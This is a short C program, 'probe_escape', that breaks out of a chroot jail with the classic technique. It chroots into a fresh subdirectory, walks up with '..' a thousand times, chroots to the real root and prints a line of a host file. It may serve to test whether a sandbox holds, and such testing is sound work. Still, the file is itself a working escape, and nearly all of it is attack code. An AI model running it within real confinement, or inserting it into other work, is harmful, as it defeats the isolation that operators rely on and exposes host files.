/*
 * probe_escape FILE: leaves a chroot in the oldest way, then prints FILE of the host.
 *
 * A process has one root. This one takes another root, below its working directory, so the
 * directory is now outside of the root. ".." stops at the root only, and its way up does not meet
 * the root any more.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char text[256] = "";

    mkdir("elsewhere", 0755);
    if (argc < 2 || chroot("elsewhere") < 0)
        return 1;
    for (int i = 0; i < 1000; i++)
        if (chdir("..") < 0)
            return 2;
    if (chroot(".") < 0)
        return 3;
    FILE *file = fopen(argv[1], "re");
    if (!file || !fgets(text, sizeof(text), file))
        return 4;
    printf("%s", text);
    return 0;
}
